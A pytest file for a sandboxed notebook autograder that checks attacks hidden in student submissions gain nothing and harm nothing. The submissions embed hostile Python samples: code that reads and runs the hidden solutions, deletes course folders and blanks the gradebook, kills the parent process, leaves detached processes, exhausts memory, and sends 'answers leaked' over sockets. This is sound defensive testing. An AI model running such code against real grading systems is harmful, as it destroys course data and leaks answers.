"""A hostile class, graded in the sandbox: attacks gain nothing, harm nobody, leave nothing behind.

Every attacker also answers honestly, so each must get exactly the score its honest answers
deserve. The attacks would succeed without the sandbox (they look for the course through
$DLEFF_COURSE_ROOT and the working folder, as a real student would); they are kept narrow so a
broken sandbox harms only this test's own temporary course.
"""

import csv
import hashlib
import os
import shutil
import socket
import threading
from pathlib import Path

import nbformat
import pytest

from dleff_instructor import classroom, grading, sandbox

ROOT = Path(__file__).resolve().parents[1]
Q = "01-devices"
QUIZ = f"{Q}-quiz.ipynb"
LATER = "06-validation"  # graded after Q in the same student's warm sandbox
GRADER_OUTPUTS = ("autograded", "feedback", "backups", "gradebook.db", "grading-notes.json", "grades.csv",
                  "grades-by-question.csv", "grades-notes.csv")
MARKER = "31415926"  # in every process the forker starts: none may be alive after grading
SURVIVORS = f"""
import pathlib
def _cmdline(p):
    try:
        return (p / "cmdline").read_bytes().decode(errors="replace")
    except OSError:
        return ""
print("survivors:", [p.name for p in pathlib.Path("/proc").iterdir() if p.name.isdigit() and "{MARKER}" in _cmdline(p)])
"""

FIND_COURSE = """
import os, pathlib
_roots = {pathlib.Path(os.environ.get("DLEFF_COURSE_ROOT", "/nonexistent")), *pathlib.Path.cwd().parents}
_roots = [r for r in _roots if (r / "submitted").is_dir() or (r / "solutions").is_dir()]
"""

READER = FIND_COURSE + """
import re, json
_seen = {}
for _root in _roots:
    for _path in _root.rglob("*"):
        try:
            _seen[str(_path)] = _path.read_bytes()[:1000]
        except OSError:
            pass
    for _source in _root.glob("solutions/*/*.ipynb"):
        for _cell in json.loads(_source.read_text())["cells"]:
            if _cell["cell_type"] == "code":
                try:
                    exec(re.sub(r"### (BEGIN|END) SOLUTION", "", "".join(_cell["source"])), globals())
                except Exception:
                    pass
"""

VANDAL = FIND_COURSE + """
import shutil
for _root in _roots:
    for _target in [*_root.glob("submitted/*"), *_root.glob("autograded/*"), *_root.glob("solutions/*")]:
        if "vandal" not in str(_target):
            shutil.rmtree(_target, ignore_errors=True)
    for _name in ("gradebook.db", "grading-notes.json", "grades.csv"):
        try:
            (_root / _name).write_text("")
        except OSError:
            pass
"""

KILLER = """
import os, signal
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
"""

FORKER = f"""
import os, subprocess, sys
subprocess.Popen(["sleep", "{MARKER}"], start_new_session=True, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep({MARKER})"])
    os._exit(0)
os.wait()
"""

HOG = "import numpy\n_big = numpy.ones(6 << 30, 'u1')\n"

CALLER = """
import socket
for _address in {addresses!r}:
    try:
        with socket.create_connection(_address, timeout=3) as _connection:
            _connection.sendall(b"answers leaked")
    except OSError:
        pass
"""


def _outside_address():
    """A local, non-loopback IPv4 address of this machine (no packet is sent), or None."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("10.255.255.255", 1))
        except OSError:
            return None
        address = probe.getsockname()[0]
    return None if address.startswith("127.") else address


class Listener:
    """A TCP listener on the grader's side that records whatever reaches it."""

    def __init__(self, host):
        self.server = socket.create_server((host, 0))
        self.server.settimeout(0.5)
        self.address = self.server.getsockname()[:2]
        self.received = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(2)
                try:
                    self.received.append(connection.recv(1024) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")

    def close(self):
        self.stop.set()
        self.thread.join()
        self.server.close()


def _checksums(root):
    sums = {}
    for path in sorted(root.rglob("*")):
        relative = path.relative_to(root)
        if path.is_file() and relative.parts[0] not in GRADER_OUTPUTS and not path.name.startswith("."):
            sums[str(relative)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return sums


def _marked_processes():
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and MARKER.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            pass
    return found


def _by_question(root, student, quiz=Q):
    with open(root / "grades-by-question.csv", newline="") as handle:
        return {r["question"]: float(r["score"]) for r in csv.DictReader(handle)
                if r["student_id"] == student and r["quiz"] == quiz}


def _with_attack(student, attack, where=0, before=False, quiz=Q):
    """`student`'s honest answers (for their own variant), with `attack` run in the `where`-th answer
    cell (before or after its answer)."""
    answers = classroom.answers(quiz, ROOT, student)
    code_answers = [c.metadata.nbgrader["grade_id"] for c in classroom.blank(quiz, ROOT, student).cells
                    if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution")]
    grade_id = code_answers[where]
    source = attack + "\n" + answers[grade_id] if before else answers[grade_id] + "\n" + attack
    return classroom.filled(quiz, {grade_id: source}, root=ROOT, student=student)


@pytest.fixture(scope="module")
def attacked(course_factory, tmp_path_factory, monkeypatch_module):
    sandbox.check_available()  # `make test` installs bubblewrap: the sandboxed path is what is tested
    monkeypatch_module.setenv("DLEFF_CELL_TIMEOUT", "60")
    root = course_factory("attacked-course")
    listeners = [Listener("127.0.0.1")] + ([Listener(_outside_address())] if _outside_address() else [])
    # every submission is built for the student it is handed in as: ids, option order and numbers
    blank = classroom.blank(Q, ROOT, "blank")
    reader = classroom.blank(Q, ROOT, "reader")
    first_answer = next(c for c in reader.cells if c.metadata.get("nbgrader", {}).get("solution")
                        and c.cell_type == "code")
    first_answer.source = READER
    export = classroom.export(tmp_path_factory.mktemp("hostile-export"), {
        ("good", QUIZ): classroom.filled(Q, root=ROOT, student="good"),
        ("blank", QUIZ): blank,
        ("reader", QUIZ): reader,
        ("vandal", QUIZ): _with_attack("vandal", VANDAL),
        ("killer", QUIZ): _with_attack("killer", KILLER),
        ("forker", QUIZ): _with_attack("forker", FORKER),
        ("hog", QUIZ): _with_attack("hog", HOG, where=-1, before=True),
        ("caller", QUIZ): _with_attack("caller", CALLER.format(addresses=[lst.address for lst in listeners])),
        # a student's next quiz runs in the same warm sandbox: it must not inherit the attacks of the first
        ("good", f"{LATER}-quiz.ipynb"): classroom.filled(LATER, root=ROOT, student="good"),
        ("killer", f"{LATER}-quiz.ipynb"): classroom.filled(LATER, root=ROOT, student="killer"),
        ("forker", f"{LATER}-quiz.ipynb"): _with_attack("forker", SURVIVORS, quiz=LATER),
    })
    grading.collect(export, root)
    before = _checksums(root)
    log = grading.autograde(root, [Q, LATER])
    grading.grades(root)
    for listener in listeners:
        listener.close()
    yield root, log, before, listeners


@pytest.fixture(scope="module")
def monkeypatch_module():
    with pytest.MonkeyPatch.context() as patch:
        yield patch


def test_attackers_get_what_their_honest_answers_deserve(attacked):
    root, log, _, _ = attacked
    good, blank = _by_question(root, "good"), _by_question(root, "blank")
    assert sum(good.values()) > sum(blank.values()), "the solutions must earn points"
    notes = grading.load_notes(root)
    for student in ("vandal", "killer", "forker", "caller"):
        assert _by_question(root, student) == good, (student, log)
        assert "student id" not in notes.get(f"{student}/{Q}", ""), "each is built for its own student"
    assert _by_question(root, "reader") == blank, "reading the course's files must gain nothing"


def test_a_students_next_quiz_starts_clean_after_an_attack(attacked):
    """Killing the kernel's parent, or leaving detached processes, spoils nothing of the next quiz."""
    root, _, _, _ = attacked
    good = _by_question(root, "good", LATER)
    assert sum(good.values()) > 0
    assert _by_question(root, "killer", LATER) == good
    assert _by_question(root, "forker", LATER) == good
    notebook = nbformat.read(root / "autograded" / "forker" / LATER / f"{LATER}-quiz.ipynb", as_version=4)
    printed = [o.get("text", "") for c in notebook.cells if c.cell_type == "code" for o in c.outputs]
    assert any("survivors: []" in text for text in printed), printed


def test_memory_hog_loses_only_the_question_that_allocated(attacked):
    root, _, _, _ = attacked
    good, hog = _by_question(root, "good"), _by_question(root, "hog")
    lost = {q for q in good if hog[q] != good[q]}
    assert len(lost) == 1 and hog[lost.pop()] == 0.0, hog
    notes = grading.load_notes(root)
    assert "memory limit" in notes.get(f"hog/{Q}", ""), notes


def test_course_tree_is_unchanged_outside_grader_outputs(attacked):
    root, _, before, _ = attacked
    assert _checksums(root) == before
    assert all((root / "submitted" / s / Q / QUIZ).exists() for s in ("good", "reader", "killer"))


def _sandboxes_of(root: Path) -> list[str]:
    """Processes still in a sandbox's group that were started for this course (its banks are bound)."""
    left = []
    for procs in Path(sandbox.CGROUPS).glob("*/dleff-*/cgroup.procs"):
        for pid in procs.read_text().split():
            try:
                if str(root).encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                    left.append(pid)
            except OSError:
                pass
    return left


def test_nothing_left_running_and_nothing_reached_the_network(attacked):
    root, _, _, listeners = attacked
    assert _marked_processes() == []
    assert _sandboxes_of(root) == []  # other graders on this machine may have groups of their own
    assert all(listener.received == [] for listener in listeners), [lst.received for lst in listeners]
    assert not list(Path(os.environ.get("TMPDIR", "/tmp")).glob("dleff-sandbox-*/quiz/*"))


def test_graded_twice_the_same_and_same_without_sandbox(attacked):
    root, _, _, _ = attacked
    first = {s: _by_question(root, s) for s in ("vandal", "forker", "good")}
    for student in ("vandal", "forker"):
        shutil.rmtree(root / "autograded" / student)
    grading.autograde(root, [Q])
    grading.grades(root)
    assert {s: _by_question(root, s) for s in ("vandal", "forker")} == {s: first[s] for s in ("vandal", "forker")}
    # the good submission scores the same with the sandbox off
    shutil.rmtree(root / "autograded" / "good")
    grading.autograde(root, [Q], unsafe=True)
    grading.grades(root)
    assert _by_question(root, "good") == first["good"]


def test_hidden_checks_still_sealed(attacked):
    root, _, _, _ = attacked
    notebook = nbformat.read(root / "autograded" / "good" / Q / QUIZ, as_version=4)
    assert not any("HIDDEN TESTS" in c.source for c in notebook.cells)


def test_no_sandbox_stops_with_what_to_install(tmp_path, monkeypatch):
    monkeypatch.setattr(sandbox, "bwrap_path", lambda: None)
    with pytest.raises(SystemExit, match="bubblewrap.*UNSAFE=1"):
        grading.autograde(tmp_path, [Q])


def test_never_released_says_run_make_release(tmp_path):
    (tmp_path / "solutions" / Q).mkdir(parents=True)
    (tmp_path / "submitted" / "someone" / Q).mkdir(parents=True)
    with pytest.raises(SystemExit, match="make release"):
        grading.autograde(tmp_path, [Q])


def test_a_student_whose_warm_server_cannot_start_is_graded_in_sandboxes_of_their_own(released_course, monkeypatch):
    from nbgrader.api import Gradebook

    from dleff_instructor import warm

    root, student = released_course, "noserver"
    target = root / "submitted" / student / LATER / f"{LATER}-quiz.ipynb"
    target.parent.mkdir(parents=True)
    nbformat.write(classroom.filled(LATER, root=ROOT, student=student), target)

    def refuse(self):
        raise RuntimeError("the grading fork server did not start: (refused by this test)")

    commands = []
    command = sandbox.Sandbox.command
    monkeypatch.setattr(warm.WarmKernels, "start", refuse)
    monkeypatch.setattr(sandbox.Sandbox, "command",
                        lambda self, *args, **kwargs: commands.append(kwargs) or command(self, *args, **kwargs))
    for name in ("DLEFF_COURSE_ROOT", "DLEFF_UNSAFE", "PATH"):  # the worker's set-up changes them; put them back
        monkeypatch.setenv(name, os.environ.get(name, ""))
    grading._start_worker(str(root), False, None)
    [(_, _, reason, _)] = grading._grade_student(student, [LATER])
    assert reason is None
    # a kernel in a sandbox of its own, not the warm server (its sandbox is PID 1 inside), and not none at all
    assert commands and not any(kwargs.get("as_pid_1") for kwargs in commands)
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gradebook:
        submission = gradebook.find_submission(LATER, student)
        assert submission.max_code_score > 0 and submission.code_score == submission.max_code_score
